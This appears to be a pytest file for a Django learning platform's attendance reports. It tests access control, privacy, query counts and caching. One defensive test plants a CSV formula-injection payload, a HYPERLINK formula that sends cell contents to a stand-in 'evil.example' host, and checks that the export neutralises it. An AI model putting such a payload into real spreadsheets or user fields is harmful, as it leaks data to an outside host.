"""P27: a client sees usage reports of its own members, a learner their own; instructors their
class's. On screen, as CSV and as PDF; the number of queries does not grow with the data."""

from __future__ import annotations

import csv
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from lyceum.learning import reports, services
from lyceum.learning.models import Enrolment
from lyceum.orgs.services import membership_add


@pytest.fixture
def attended(school):
    held = school.lessons[:2]
    services.attendance_record(
        actor=school.instructor,
        lesson=held[0],
        marks={school.learner.pk: "present", school.employee.pk: "late"},
    )
    services.attendance_record(
        actor=school.instructor,
        lesson=held[1],
        marks={school.learner.pk: "absent", school.employee.pk: "present"},
    )
    return school


def _csv(response):
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def test_p27_a_learner_sees_and_downloads_their_own_report(client, attended):
    client.force_login(attended.learner)
    page = client.get(reverse("learning:my_report")).content.decode()
    assert "Business English – Tuesdays" in page and "50 %" in page
    rows = _csv(client.get(reverse("learning:my_report", kwargs={"fmt": "csv"})))
    assert rows[1] == ["Business English – Tuesdays", "2", "1", "0", "1", "0", "50", "1.0"]
    pdf = client.get(reverse("learning:my_report", kwargs={"fmt": "pdf"}))
    assert pdf["Content-Type"] == "application/pdf" and pdf.content.startswith(b"%PDF")


def test_p27_a_client_report_holds_its_members_and_nobody_else(client, attended, make_user):
    # A member's private class (not under the contract) is none of the employer's business.
    private = services.class_create(actor=None, course=attended.course, title="Evenings")
    services.enrol(actor=None, klass=private, user=attended.employee, source=Enrolment.Source.SELF)
    client.force_login(attended.acme_admin)
    page = client.get(reverse("learning:client_report", args=[attended.acme.slug])).content.decode()
    assert "Sam Employee" in page
    assert "Léa Learner" not in page  # in the same class, but not Acme's
    rows = _csv(client.get(reverse("learning:client_report", args=[attended.acme.slug, "csv"])))
    assert [r[0] for r in rows[1:]] == ["Sam Employee"]
    assert rows[1][1:] == ["2", "1", "1", "0", "0", "100", "2.0"]
    pdf = client.get(reverse("learning:client_report", args=[attended.acme.slug, "pdf"]))
    assert pdf.content.startswith(b"%PDF")


@pytest.mark.parametrize("fmt", ["html", "csv", "pdf"])
def test_p27_another_clients_administrator_sees_no_report(client, attended, fmt):
    client.force_login(attended.other_admin)
    url = reverse("learning:client_report", args=[attended.acme.slug, fmt])
    response = client.get(url)
    assert response.status_code == 404
    assert b"Sam Employee" not in response.content
    client.force_login(attended.employee)  # a member, not an administrator
    assert client.get(url).status_code == 404


@pytest.mark.parametrize("fmt", ["html", "csv", "pdf"])
def test_p27_only_the_classes_instructors_see_its_report(client, attended, fmt):
    url = reverse("learning:class_report", args=[attended.klass.pk, fmt])
    for person in (attended.learner, attended.acme_admin, attended.outsider):
        client.force_login(person)
        assert client.get(url).status_code == 404
    client.force_login(attended.instructor)
    assert client.get(url).status_code == 200


def test_p27_the_client_report_costs_the_same_queries_with_ten_times_the_people(
    client, attended, make_user
):
    def queries():
        from django.core.cache import cache

        cache.clear()  # the organisation's totals are cached a minute: measure without
        client.force_login(attended.acme_admin)
        with CaptureQueriesContext(connection) as captured:
            response = client.get(reverse("learning:client_report", args=[attended.acme.slug]))
        assert response.status_code == 200
        return len(captured)

    before = queries()
    attended.contract.seats = 100
    attended.contract.save()
    attended.klass.capacity = 100
    attended.klass.save()
    people = [make_user(name=f"Colleague {i:02}") for i in range(20)]
    for person in people:
        membership_add(actor=None, organisation=attended.acme, user=person)
    services.seats_assign(
        actor=attended.acme_admin, contract=attended.contract, klass=attended.klass, users=people
    )
    services.attendance_record(
        actor=attended.instructor,
        lesson=attended.lessons[0],
        marks={p.pk: "present" for p in people},
    )
    assert queries() == before


def test_the_class_report_costs_the_same_queries_with_more_learners(client, attended, make_user):
    def queries():
        client.force_login(attended.instructor)
        with CaptureQueriesContext(connection) as captured:
            client.get(reverse("learning:class_report", args=[attended.klass.pk]))
        return len(captured)

    before = queries()
    attended.klass.capacity = 50
    attended.klass.save()
    for i in range(15):
        person = make_user(name=f"Extra {i}")
        services.enrol(actor=None, klass=attended.klass, user=person, source=Enrolment.Source.STAFF)
    assert queries() == before


def test_a_restricted_learner_is_not_named_in_reports(client, attended):
    from lyceum.privacy.services import processing_limit_set

    processing_limit_set(
        user=attended.employee, actor=attended.employee, kind="restriction", on=True
    )
    client.force_login(attended.acme_admin)
    page = client.get(reverse("learning:client_report", args=[attended.acme.slug])).content.decode()
    assert "Sam Employee" not in page and "(restricted)" in page


def test_p27_a_member_who_paid_their_own_place_in_the_same_class_stays_private(
    client, attended, make_user
):
    colleague = make_user(name="Private Payer")
    membership_add(actor=None, organisation=attended.acme, user=colleague)
    services.enrol(
        actor=colleague, klass=attended.klass, user=colleague, source=Enrolment.Source.PURCHASE
    )
    services.attendance_record(
        actor=attended.instructor, lesson=attended.lessons[0], marks={colleague.pk: "present"}
    )
    client.force_login(attended.acme_admin)
    rows = _csv(client.get(reverse("learning:client_report", args=[attended.acme.slug, "csv"])))
    assert [r[0] for r in rows[1:]] == ["Sam Employee"]
    page = client.get(reverse("learning:client_report", args=[attended.acme.slug]))
    totals = page.context["report"].totals
    assert totals.counts == {"present": 1, "late": 1, "absent": 0, "excused": 0}


def test_a_name_that_looks_like_a_formula_is_plain_text_in_the_csv(client, attended):
    attended.employee.display_name = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    attended.employee.save()
    client.force_login(attended.acme_admin)
    rows = _csv(client.get(reverse("learning:client_report", args=[attended.acme.slug, "csv"])))
    assert rows[1][0] == '\'=HYPERLINK("http://evil.example/?"&A1,"x")'


def test_lessons_count_for_a_learner_only_while_they_are_in_the_class(client, attended, make_user):
    from datetime import timedelta

    from django.utils import timezone

    newcomer = make_user(name="New Comer")
    services.enrol(actor=None, klass=attended.klass, user=newcomer, source=Enrolment.Source.STAFF)
    services.lesson_schedule(
        actor=attended.instructor,
        klass=attended.klass,
        starts_at=timezone.now() + timedelta(minutes=1),
        duration=60,
        topic="Held after they joined",
    )
    report = reports.class_report(attended.klass, now=timezone.now() + timedelta(hours=2))
    lines = {line.label: line for line in report.lines}
    assert lines["New Comer"].lessons == 1  # not the two held before they joined
    assert lines["Léa Learner"].lessons == 3
    # Leaving ends the count: Sam leaves, a lesson is held after, Sam's count stays.
    services.enrolment_withdraw(
        actor=attended.instructor, enrolment=Enrolment.objects.get(user=attended.employee)
    )
    report = reports.class_report(attended.klass, now=timezone.now() + timedelta(hours=2))
    lines = {line.label: line for line in report.lines}
    assert lines["Sam Employee (left the class)"].lessons == 2


def test_attendance_is_refused_for_lessons_to_come_or_cancelled(attended):
    import pytest

    from lyceum.learning.services import LearningError

    upcoming = attended.lessons[2]
    with pytest.raises(LearningError, match="not started"):
        services.attendance_record(
            actor=attended.instructor, lesson=upcoming, marks={attended.learner.pk: "present"}
        )
    past = attended.lessons[0]
    past.is_cancelled = True
    past.save()
    with pytest.raises(LearningError, match="cancelled"):
        services.attendance_record(
            actor=attended.instructor, lesson=past, marks={attended.learner.pk: "present"}
        )


def test_the_organisations_totals_are_kept_a_minute_and_say_so(client, attended, make_user):
    from django.core.cache import cache

    url = reverse("learning:client_report", args=[attended.acme.slug])
    client.force_login(attended.acme_admin)
    first = client.get(url)
    assert first.context["report"].totals_as_of is None  # computed now
    services.attendance_record(
        actor=attended.instructor,
        lesson=attended.lessons[1],
        marks={attended.employee.pk: "absent"},
    )
    second = client.get(url)
    assert second.context["report"].totals_as_of is not None
    assert "brought up to date every minute" in second.content.decode()
    assert second.context["report"].totals.counts["absent"] == 0  # the cached totals
    line = second.context["report"].lines[0]
    assert line.counts["absent"] == 1  # the member's own line is live
    cache.clear()  # a minute later
    assert client.get(url).context["report"].totals.counts["absent"] == 1


def test_a_cancelled_or_moved_lesson_leaves_the_rates_true(attended):
    """Attendance counts only at lessons held: cancelling or moving a lesson after it was
    recorded never makes a rate pass 100 %."""
    from datetime import timedelta

    first, second = attended.lessons[:2]
    services.lesson_update(actor=attended.instructor, lesson=first, data={"is_cancelled": True})
    services.lesson_update(
        actor=attended.instructor,
        lesson=second,
        data={"starts_at": second.starts_at + timedelta(days=30)},
    )
    report = reports.learner_report(attended.employee)
    (line,) = report.lines
    assert (line.lessons, line.attended, line.rate) == (0, 0, None)
    client_line = reports.client_report(attended.acme).lines[0]
    assert client_line.rate is None or client_line.rate <= 100


def test_p27_a_client_never_sees_what_a_member_did_before_it_paid(attended, make_user):
    """A member takes the class privately, leaves, and comes back on the client's seat: the
    client's report holds only the paid stay; the member's own report holds both."""
    from datetime import timedelta

    from django.utils import timezone

    pat = make_user(name="Pat Private")
    membership_add(actor=None, organisation=attended.acme, user=pat)
    Enrolment.objects.create(
        klass=attended.klass,
        user=pat,
        source=Enrolment.Source.SELF,
        joined_at=timezone.now() - timedelta(days=20),
    )
    services.attendance_record(
        actor=attended.instructor, lesson=attended.lessons[0], marks={pat.pk: "absent"}
    )
    private = Enrolment.objects.get(user=pat)
    services.enrolment_withdraw(actor=pat, enrolment=private)
    services.seats_assign(
        actor=attended.acme_admin, contract=attended.contract, klass=attended.klass, users=[pat]
    )
    lines = {line.label: line for line in reports.client_report(attended.acme).lines}
    assert (lines["Pat Private"].lessons, lines["Pat Private"].counts["absent"]) == (0, 0)
    (own,) = reports.learner_report(pat).lines
    assert (own.lessons, own.counts["absent"]) == (2, 1)
